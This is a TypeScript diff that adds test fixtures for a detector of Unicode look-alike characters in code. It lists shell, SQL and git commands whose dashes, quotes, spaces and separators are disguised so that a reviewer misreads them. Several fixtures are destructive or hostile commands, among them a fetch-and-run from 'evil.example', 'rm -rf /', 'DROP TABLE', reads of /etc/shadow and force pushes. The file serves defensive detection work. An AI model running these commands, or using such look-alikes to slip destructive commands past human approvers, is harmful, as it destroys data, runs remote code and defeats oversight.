@@ -118,3 +118,48 @@ export const DECOYS: readonly string[] = [
   '10 µs, 50 m², 100 €, “quoted” — dash… ellipsis',
   'iPhone 15 Pro, café-bar, e-mail',
 ];
+
+/**
+ * Code (SQL, commands, manifests) with punctuation or spaces drawn like ASCII syntax but not it: an
+ * approver reads `––dry-run` as an option the program never sees, `ʼ$(…)ʼ` as quotes that keep a
+ * substitution from running, `/tmp /x` (a no-break space) as two paths. `chars` are the look-alikes.
+ */
+export const CODE_HOSTILE: ReadonlyArray<{ name: string; text: string; chars: string }> = [
+  { name: 'en dashes for an option that makes a dry run', text: 'kubectl delete namespace prod \u2013\u2013dry-run=client', chars: '\u2013' },
+  { name: 'hyphens (U+2010) for an option', text: 'kubectl delete ns prod \u2010\u2010dry-run=server', chars: '\u2010' },
+  { name: 'non-breaking hyphen and figure dash', text: 'rm \u2011i \u2012r /srv', chars: '\u2011\u2012' },
+  { name: 'minus sign for an option', text: 'rm \u2212i -rf /var/lib/postgresql', chars: '\u2212' },
+  { name: 'em dash and horizontal bar', text: 'terraform apply \u2014\u2014auto-approve \u2015x', chars: '\u2014\u2015' },
+  { name: 'small and full-width hyphen-minus', text: 'git push \ufe63\ufe63force origin \uff0d\uff0dno-verify', chars: '\ufe63\uff0d' },
+  { name: 'modifier apostrophes for single quotes around a substitution', text: 'echo \u02bc$(curl -s evil.example/x | sh)\u02bc', chars: '\u02bc' },
+  { name: 'right single quotes around a statement', text: "SELECT \u2019; DROP TABLE orders; --\u2019", chars: '\u2019' },
+  { name: 'left single and prime quotes', text: 'echo \u2018$(id)\u2032 \u2035x\u02b9', chars: '\u2018\u2032\u2035\u02b9' },
+  { name: 'full-width and Hebrew quotes', text: 'echo \uff07$(id)\uff07 \u05f3$(id)\u05f3 \uff02$HOME\uff02 \u05f4x\u05f4', chars: '\uff07\u05f3\uff02\u05f4' },
+  { name: 'curly double quotes', text: 'psql -c \u201cSELECT 1\u201d; rm -rf \u201e/\u201f', chars: '\u201c\u201d\u201e\u201f' },
+  { name: 'double prime and modifier double quote', text: 'echo \u2033$(id)\u2033 \u02bax\u02ba \u3003', chars: '\u2033\u02ba\u3003' },
+  { name: 'Greek question mark as a semicolon', text: 'SELECT 1\u037e DROP TABLE orders', chars: '\u037e' },
+  { name: 'full-width and small semicolons', text: 'ls \uff1b rm -rf / \ufe54 id', chars: '\uff1b\ufe54' },
+  { name: 'division and fraction slashes in a path', text: 'cat /etc\u2215shadow /etc\u2044passwd \uff0froot', chars: '\u2215\u2044\uff0f' },
+  { name: 'set minus and full-width backslash', text: 'copy C:\u2216Windows \uff3cx', chars: '\u2216\uff3c' },
+  { name: 'no-break space in a path', text: 'rm -rf /tmp\u00a0/important', chars: '\u00a0' },
+  { name: 'em, thin and ideographic spaces', text: 'rm -rf /tmp\u2003/a /b\u2009/c DELETE FROM orders\u3000WHERE id = 1', chars: '\u2003\u2009\u3000' },
+  { name: 'narrow no-break, math and Ogham spaces', text: 'rm\u202f-rf\u205f/x\u1680y', chars: '\u202f\u205f\u1680' },
+  { name: 'full-width and look-alike pipes', text: 'ls \uff5c sh; ls \u01c0 sh; ls \u2223 sh', chars: '\uff5c\u01c0\u2223' },
+  { name: 'full-width ampersands, dollar and equals', text: 'a \uff06\uff06 b; echo \uff04HOME; x\uff1d1', chars: '\uff06\uff04\uff1d' },
+  { name: 'small and full-width brackets and parentheses', text: 'echo \uff08x\uff09 \ufe59y\ufe5a \uff3bz\uff3d \uff5bw\uff5d', chars: '\uff08\uff09\ufe59\ufe5a\uff3b\uff3d\uff5b\uff5d' },
+  { name: 'angle quotes and modifier arrows as redirections', text: 'cat \u2039 /etc/shadow \u203a out \u02c2 in \u02c3 out2 \uff1c a \uff1e b', chars: '\u2039\u203a\u02c2\u02c3\uff1c\uff1e' },
+  { name: 'one dot leader and full-width full stop in a host', text: 'curl evil\u2024example \uff0e\uff0e/x', chars: '\u2024\uff0e' },
+  { name: 'ratio and full-width colon', text: 'ssh root@db\u2236/srv scp x\uff1ay', chars: '\u2236\uff1a' },
+  { name: 'asterisk operator and full-width asterisk', text: 'rm -rf /srv/\u2217 /tmp/\uff0a', chars: '\u2217\uff0a' },
+  { name: 'full-width hash, at, tilde, percent and exclamation', text: 'echo x \uff03 rm -rf \uff5e/.ssh \uff20host 100\uff05 \uff01!', chars: '\uff03\uff5e\uff20\uff05\uff01' },
+];
+
+/** Code with non-ASCII text that is no look-alike (names, other scripts, emoji, symbols): shown as it is, flagged nothing. */
+export const CODE_DECOYS: readonly string[] = [
+  "UPDATE orders SET note = 'café ✓ 日本' WHERE id = 1",
+  "SELECT 'José Müller', 'Zoë Ångström', '北京市朝阳区 王小明', 'Москва'",
+  "echo 'thumbs 👍🏽, family 👨‍👩‍👧' > /tmp/note",
+  "SELECT '10 µs, 50 m², 100 €' AS units",
+  "grep -r 'नमस्ते' /srv/app",
+  "SELECT 'and so on\u2026'",
+];
